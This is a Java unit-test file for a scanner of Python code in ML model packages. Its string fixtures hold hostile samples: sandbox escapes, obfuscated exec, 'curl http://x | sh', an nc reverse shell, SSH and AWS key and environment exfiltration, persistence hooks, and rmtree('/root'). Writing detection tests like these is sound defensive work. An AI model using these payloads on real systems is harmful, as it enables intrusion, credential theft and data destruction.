package io.sallyport.artifacts.evasion;

import static io.sallyport.artifacts.evasion.ModelFiles.utf8;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import io.sallyport.artifacts.ModelScanner;
import io.sallyport.artifacts.ScanFinding;
import io.sallyport.artifacts.ScanLimits;
import io.sallyport.artifacts.ScanVerdict;
import io.sallyport.artifacts.internal.rules.DataFiles;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Source of Python is judged by where its values come from and where they go. */
final class SourceEffectsTest {
  private static final ModelScanner SCANNER = new ModelScanner(ScanLimits.standard());
  private static final JsonNode EFFECTS = DataFiles.tree("rules/python-effects.json");

  private static ScanVerdict verdict(String source) {
    return SCANNER.scan(utf8(source), "modeling.py").verdict();
  }

  private static List<String> rules(String source) {
    return SCANNER.scan(utf8(source), "modeling.py").findings().stream()
        .map(ScanFinding::rule)
        .distinct()
        .toList();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "print.__self__.exec('import os; os.system(1)')\n",
        "import random\nrandom._os.system('id')\n",
        "from random import _os as o\no.popen('id')\n",
        "import logging\nlogging.sys.modules['os'].system('id')\n",
        "import collections\ncollections._sys.modules.get('subprocess').run('id')\n",
        "import functools, logging\n"
            + "functools.reduce(getattr, ['sys', 'modules'], logging)['os'].system('id')\n",
        "from operator import methodcaller\nimport os\nmethodcaller('system', 'id')(os)\n",
        "import operator, os\noperator.attrgetter('system')(os)('id')\n",
        "__loader__.load_module('os').system('id')\n",
        "import importlib\nimportlib.import_module('o' + 's').system('id')\n",
        "[c for c in ().__class__.__base__.__subclasses__()][0].__init__.__globals__['system'](1)\n",
        "b = globals()['__builtins__']\n"
            + "(b if isinstance(b, dict) else b.__dict__)['eval']('1')\n",
        "(lambda: 0).__globals__['__builtins__'].__import__('os').system('id')\n",
        "import os\nmatch os:\n    case object(system=s):\n        s('id')\n",
        "class A(type):\n    def __init__(c, *a):\n        __import__('os').system('id')\n",
        "def f(a=(lambda: __import__('os').popen('id'))()):\n    return a\n",
        "x = f\"{__import__('os').system('id')}\"\n",
        "(e := eval)('__imp' + 'ort__(\"os\").system(1)')\n",
        "exec(''.join(map(chr, [105, 109, 112, 111])))\n",
        "exec('%c%c%c' % (105, 109, 112))\n",
        "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))\n",
        "exec('vzcbeg'.encode().decode('rot13'))\n",
        "import marshal, types\ntypes.FunctionType(marshal.loads(b'x'), {})()\n",
        "import pickle, base64\npickle.loads(base64.b64decode('gASV'))\n",
        "import ctypes\nctypes.CDLL(None).system(b'id')\n",
        "import cffi\nf = cffi.FFI()\nf.dlopen(None).system(b'id')\n",
        "import timeit\ntimeit.timeit('import os; os.system(\"id\")', number=1)\n",
        "import sys\nsys.settrace(lambda *a: __import__('os').system('id'))\n",
        "import os\nclass P:\n    def __reduce__(self):\n        return (os.system, ('id',))\n",
        "import requests\nexec(requests.get('http://x/y').text)\n",
        "import requests\ndef f():\n    c = requests.get(u).json()['c']\n    run(c)\n"
            + "def run(c):\n    import os\n    os.system(c)\nf()\n",
        "import requests, subprocess\nopen('/tmp/a', 'wb').write(requests.get(u).content)\n"
            + "subprocess.Popen(['/tmp/a'])\n",
        "import urllib.request, os, tempfile\np = tempfile.mktemp()\n"
            + "urllib.request.urlretrieve(u, p)\nos.execv(p, [p])\n",
        "import urllib.request, runpy\nurllib.request.urlretrieve(u, 'p.py')\n"
            + "runpy.run_path('p.py')\n",
        "import socket, os, subprocess\ns = socket.socket()\ns.connect(('10.0.0.1', 1))\n"
            + "for i in (0, 1, 2):\n    os.dup2(s.fileno(), i)\n",
        "import socket, subprocess\ns = socket.create_connection(('10.0.0.1', 1))\n"
            + "subprocess.Popen(['cmd'], stdin=s, stdout=s)\n",
        "import socket, os\ns = socket.create_connection(a)\nos.popen(s.recv(9).decode())\n",
        "import os, requests\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
            + "requests.post(u, data=k)\n",
        "import os, json, urllib.request\n"
            + "urllib.request.urlopen(u, data=json.dumps(dict(os.environ)).encode())\n",
        "import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('curl http://x | sh')\n",
        "import site\np = site.getsitepackages()[0]\nopen(p + '/a.pth', 'w').write('import os')\n",
        "import pathlib\np = pathlib.Path.home() / '.ssh' / 'authorized_keys'\n"
            + "p.open('a').write('ssh-rsa A')\n",
        "import winreg as w\nk = w.OpenKey(w.X, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')\n"
            + "w.SetValueEx(k, 'u', 0, w.REG_SZ, 'x')\n",
        "import atexit, os\natexit.register(os.system, 'curl http://x | sh')\n",
        "import threading, os\nthreading.Timer(1, os.popen, ('nc -e /bin/sh 1.2.3.4 5',)).start()\n",
        "import shutil\nshutil.rmtree('/root')\n",
        "import jinja2\njinja2.Template(\"{{ x.__init__.__globals__ }}\").render()\n",
        "import os\nclass T:\n    def __class_getitem__(cls, k):\n        return os.popen(k)\n"
            + "x: T['curl http://x | sh'] = 1\n",
        "exec 'import os; os.system(\"id\")' in {}\n"
      })
  void codeWithoutAnHonestReading_isMalicious(String source) {
    assertThat(verdict(source)).as("%s", rules(source)).isEqualTo(ScanVerdict.MALICIOUS);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "import subprocess\ndef g():\n    return subprocess.check_output(['nvidia-smi', '-L'])\n",
        "import os\nos.system('pip install flash-attn')\n",
        "import subprocess\nfor c in ['wget -c https://x/a.zip', 'unzip a.zip']:\n"
            + "    subprocess.run(c, shell=True)\n",
        "import sys, subprocess\n"
            + "subprocess.check_call([sys.executable, '-m', 'pip', 'install', '-r', 'r.txt'])\n",
        "import requests\nwith open('d.csv', 'wb') as f:\n    f.write(requests.get(u).content)\n",
        "import base64, io\nfrom PIL import Image\n"
            + "i = Image.open(io.BytesIO(base64.b64decode(d['x'])))\n",
        "import pickle\nm = pickle.load(open('m.pkl', 'rb'))\n",
        "import torch\ntorch.load('a.ckpt', map_location='cpu', weights_only=False)\n",
        "import importlib\ndef g(s):\n    m, c = s.rsplit('.', 1)\n"
            + "    return getattr(importlib.import_module(m), c)\n",
        "import re\nns = {}\nexec(open('p/version.py').read(), ns)\n",
        "def check(program):\n    exec(program, {})\n",
        "import os, requests\nrequests.post(u, headers={'A': os.environ['KEY']}, json={'a': 1})\n",
        "import socket\nwith socket.socket() as s:\n    s.bind(('', 0))\n"
            + "    p = s.getsockname()[1]\n",
        "import ctypes\nl = ctypes.CDLL('libcudart.so')\n",
        "class B:\n    pass\nk = {c.__name__: c for c in B.__subclasses__()}\n",
        "import threading, os, signal\nsignal.signal(signal.SIGTERM, lambda *a: os._exit(0))\n",
        "import timeit\nprint(timeit.timeit('1 + 1', number=10))\n",
        "import pandas as pd\npd.eval('a + b')\ndf.query('a > 1')\n",
        "import torch\nm = torch.hub.load('pytorch/vision', 'resnet18')\n",
        "import jinja2\nt = jinja2.Template('{{ messages[0].content }}')\n",
        "import shutil\nshutil.rmtree('out/tmp', ignore_errors=True)\n",
        "import os\nclass P:\n    def __reduce__(self):\n        return (self.__class__, ())\n",
        "import subprocess\ndef run(cmd):\n    p = subprocess.Popen(cmd, shell=True)\n"
            + "    return p.wait()\n",
        "import asyncio\nasync def f():\n"
            + "    await asyncio.create_subprocess_exec('ffmpeg', '-i', 'a', stdout=asyncio.subprocess.PIPE)\n"
      })
  void ordinaryCode_isClean(String source) {
    assertThat(rules(source)).isEmpty();
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "import os\nos.system('id')\n",
        "import torch\ntorch.hub.load('stranger/x', 'm')\n",
        "import runpy\nrunpy.run_path('/tmp/x.py')\n",
        "import sqlite3\nc = sqlite3.connect('a')\nc.load_extension('/tmp/x')\n",
        "exec(open('weights.txt').read())\n",
        "exec('x = 1')\n",
        "import pickle, urllib.request\ndef f():\n"
            + "    return pickle.load(urllib.request.urlopen(u))\n",
        "from huggingface_hub import hf_hub_download as d\nimport torch\n"
            + "torch.load(d('a/b', 'p.bin'), weights_only=False)\n"
      })
  void codeThatCannotBeJudged_isSuspicious(String source) {
    assertThat(verdict(source)).isEqualTo(ScanVerdict.SUSPICIOUS);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "import pathlib, requests\n"
            + "for p in pathlib.Path.home().joinpath('.ssh').glob('id_*'):\n"
            + "    requests.post(u, data=p.read_bytes())\n",
        "import os, requests\nfor r, _, fs in os.walk(os.path.expanduser('~/.aws')):\n"
            + "    for f in fs:\n"
            + "        requests.post(u, files={'f': open(os.path.join(r, f), 'rb')})\n",
        "import glob, os, urllib.request\nfor p in glob.glob(os.path.expanduser('~/.ssh/*')):\n"
            + "    urllib.request.urlopen(u, data=open(p, 'rb').read())\n",
        "import os, socket, binascii\nfor k, v in os.environ.items():\n"
            + "    socket.gethostbyname(binascii.hexlify((k + v).encode()).decode()[:60] + '.x')\n",
        "import socket\nexec(socket.create_connection((h, 1)).makefile().read())\n",
        "import os\nD = {'a': os.system, 'b': print}\nD['a']('curl http://x | sh')\n",
        "import os\n{'a': os.system}.get('a')('curl http://x | sh')\n",
        "import os, functools\n"
            + "functools.reduce(lambda a, b: os.system(b), ['curl http://x | sh'], 0)\n",
        "import os\nclass A:\n    __class_getitem__ = os.system\nA['curl http://x | sh']\n",
        "import ctypes, mmap\nb = mmap.mmap(-1, 9, prot=7)\nb.write(c)\n"
            + "ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(b)))()\n"
      })
  void attackOverAListOrTableOrMemory_isFound(String source) {
    assertThat(verdict(source)).isEqualTo(ScanVerdict.MALICIOUS);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "import os, requests\nfor f in os.listdir('data'):\n"
            + "    requests.post(u, data=open(f).read())\n",
        "import os\nD = {'a': os.remove, 'b': print}\nD['a']('x')\n",
        "import socket\nsocket.gethostbyname(socket.gethostname())\n",
        "import ctypes\nF = ctypes.CFUNCTYPE(ctypes.c_int)\nF(lambda: 1)\n",
        "import pathlib\nfor p in pathlib.Path('m').joinpath('w').glob('*.pt'):\n    print(p)\n"
      })
  void honestListOrTableOrMemory_isClean(String source) {
    assertThat(rules(source)).isEmpty();
  }

  /** One source for each name of a list, which without that name would be clean. */
  private static String use(String list, String name) {
    String module = name.substring(0, Math.max(0, name.indexOf('.')));
    String top = module.isEmpty() ? "" : "import " + module + "\n";
    return switch (list) {
      case "run-command", "odd-runners" -> top + name + "('curl http://x | sh')\n";
      case "run-text", "run-text-always" -> top + call(name) + "('import os\\nos.popen(\"id\")')\n";
      case "run-bytes" -> top + name + "(b'x')\n";
      case "unpickle" -> top + "import base64\n" + name + "(base64.b64decode('gA'))\n";
      case "fetchers" -> top + "exec(" + name + "(u))\n";
      case "senders" -> top + "import os\n" + name + "(u, os.environ)\n";
      case "decoders" ->
          top.replace("import builtins\n", "").replace("import bytes\n", "")
              + "exec("
              + name.replace("builtins.", "")
              + "('eA'))\n";
      case "saves" ->
          top + "import os\n" + name + "(u, 'f')\nos.system('./f')\nos.startfile('f')\n";
      case "connect" -> top + "import pty\n" + name + "(('1.1.1.1', 1))\npty.spawn('/bin/sh')\n";
      case "socket-makers" -> top + "import os\ns = " + name + "()\nos.dup2(s.fileno(), 0)\n";
      case "importers" ->
          top.replace("import builtins\n", "")
              + name.replace("builtins.", "").replace("importlib.loader", "__loader__")
              + "('os').system('id')\n";
      case "load-code" -> top + call(name) + "('/tmp/x')\n";
      case "load-library" -> top + name + "('./x.so')\n";
      case "native-functions" -> "import ctypes\nctypes.CDLL(None)." + name + "(1)\n";
      case "startup-finders" -> top + "open(" + name + "() + '/x', 'w')\n";
      case "copies" -> top + name + "('x', '/root/.bashrc')\n";
      case "registers" -> top + name + "('CurrentVersion\\\\Run')\n";
      case "deleters" -> top + name + "('/root')\n";
      case "whole-places" -> "import shutil\nshutil.rmtree(" + quoted(name) + ")\n";
      case "reconnaissance" -> "import os\ndef f():\n    os.system('" + name + "')\n";
      case "temporary-places" -> "import runpy\nrunpy.run_path(" + quoted(name + "x") + ")\n";
      case "templates" -> top + name + "('{{ x.__init__ }}')\n";
      case "always-doubtful" -> top + call(name) + "(f)\n";
      case "reached-modules" -> "import zz\nzz." + name + "\nimport zy\n" + reached(name);
      case "feeders" -> {
        String client = name.substring(0, name.lastIndexOf('.'));
        String method = name.substring(name.lastIndexOf('.'));
        yield top
            + "import io\nb = io.BytesIO()\nf = "
            + client
            + "\nf"
            + method
            + "('RETR x', b.write)\nexec(b.getvalue())\n";
      }
      case "listers" -> {
        String listed =
            name.startsWith(".")
                ? "import pathlib\np = pathlib.Path('/home/a/.ssh')" + name + "('id_*')\n"
                : top + "p = " + name + "('/home/a/.ssh')\n";
        yield listed + "import requests\nfor f in p:\n    requests.post(u, data=open(f).read())\n";
      }
      case "openers" -> top.replace("import builtins\n", "") + opened(name);
      default -> "";
    };
  }

  private static String opened(String name) {
    String plain = name.replace("builtins.", "");
    return "import requests, os\n"
        + plain
        + "('/t/a', 'wb').write(requests.get(u).content)\nos.execv('/t/a', [])\n";
  }

  private static String reached(String name) {
    return "getattr(zy." + name + ", z)('x')\n";
  }

  private static String call(String name) {
    return name.startsWith(".") ? "zz" + name : name;
  }

  private static String quoted(String text) {
    return "'" + text.replace("\\", "\\\\") + "'";
  }

  @Test
  void namesOfEffects_areEachNeeded() {
    List<String> unneeded = new ArrayList<>();
    EFFECTS
        .fieldNames()
        .forEachRemaining(
            list -> {
              for (JsonNode name : EFFECTS.path(list)) {
                String source = use(list, name.asText());
                if (!source.isEmpty() && verdict(source) == ScanVerdict.CLEAN) {
                  unneeded.add(list + ": " + source);
                }
              }
            });
    assertThat(unneeded).isEmpty();
  }

  @Test
  void ownersOfHubs_areKnown() {
    for (JsonNode owner : EFFECTS.path("hub-owners")) {
      assertThat(rules("import torch\ntorch.hub.load('" + owner.asText() + "/x', 'm')\n"))
          .isEmpty();
    }
  }
}
